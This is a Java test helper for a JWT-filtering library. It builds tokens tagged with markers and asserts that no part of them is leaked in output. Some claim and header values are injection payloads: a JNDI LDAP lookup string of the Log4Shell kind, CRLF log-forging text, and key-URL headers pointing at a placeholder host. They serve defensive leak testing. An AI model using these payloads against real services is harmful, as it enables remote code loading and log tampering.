package io.github.jwtfilter.attack;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** Tokens in which every part contains a marker, so that a part that is shown anywhere is found. */
final class Markers {
    /** The marker, in any case. */
    static final String MARKER = "zqmarker";
    /** A marker in the raw text of signatures that are not base64url of text. */
    static final String RAW = "ZqMarkerSignature";

    private static final String[] CLAIMS = {
        "sub", "jti", "azp", "client_id", "email", "name", "preferred_username", "nonce", "sid", "scope", "password"
    };

    private Markers() {}

    /** Every header parameter that the filter knows, with a marker; {@code alg}, {@code typ} and {@code kid} as given. */
    static Members header(String algorithm) {
        return Members.header(algorithm)
                .withText("jku", "https://" + MARKER + ".example/jku")
                .withText("x5u", "https://" + MARKER + ".example/x5u")
                .withText("cty", MARKER + "-cty")
                .with("jwk", "{\"kty\":\"oct\",\"k\":\"" + MARKER + "\"}")
                .with("x5c", "[\"" + MARKER + "\"]")
                .withText(MARKER + "-parameter", MARKER + "\\r\\n${jndi:ldap://" + MARKER + "/a}");
    }

    /** The claims of an accepted token, with markers in all others. */
    static Members claims() {
        Members claims = Members.claims();
        for (String name : CLAIMS) {
            claims = claims.withText(name, MARKER + "-" + name);
        }
        return claims.with("roles", "[\"" + MARKER + "-role\"]")
                .with("realm_access", "{\"" + MARKER + "\":{\"roles\":[\"" + MARKER + "\"]}}")
                .with(MARKER + "-claim", "[1,{\"" + MARKER + "\":\"\\r\\n" + MARKER + "\"}]")
                .withText("injected", "\r\n2026-01-01 INFO " + MARKER + " ${jndi:ldap://" + MARKER + "/a}");
    }

    /** The claims with markers in issuer and audience too. */
    static Members foreignClaims() {
        return claims().withText("iss", "https://" + MARKER + ".example").withText("aud", MARKER + "-aud");
    }

    static String token(Members header, Members claims) {
        return Tokens.signed(header, claims, input -> RAW.getBytes(StandardCharsets.US_ASCII));
    }

    /** Everything of a token that must not be shown: markers, and any piece of its text, raw or encoded. */
    static void assertAbsent(String token, String shown) {
        List<String> lines = new ArrayList<>(List.of(shown.split("\n", -1)));
        lines.forEach(line -> Leaks.assertContainsNothingOf(token, line));
        if (shown.toLowerCase(java.util.Locale.ROOT).contains(MARKER)) {
            throw new AssertionError("a marker is shown: " + shown);
        }
    }
}
